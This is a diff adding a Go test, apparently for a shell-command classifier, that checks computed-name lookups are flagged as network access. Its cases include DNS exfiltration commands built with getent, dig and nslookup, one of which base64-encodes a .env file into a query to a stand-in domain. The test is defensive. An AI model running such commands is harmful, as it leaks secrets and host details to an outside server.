@@ -356,3 +356,15 @@ func TestServicesAndQueues(t *testing.T) {
 		`apply_patch < /tmp/change.patch`: {Write},
 	})
 }
+
+func TestComputedNameLookups(t *testing.T) {
+	checkHas(t, []hasCase{
+		{`getent hosts $(whoami).x.example.test`, Network},
+		{`dig $(cat .env | base64).x.example.test`, Network},
+		{`nslookup "$(hostname).x.example.test"`, Network},
+	})
+	checkOnly(t, map[string][]Class{
+		`getent hosts localhost`: {Read},
+		`getent passwd sandbox`:  {Read},
+	})
+}
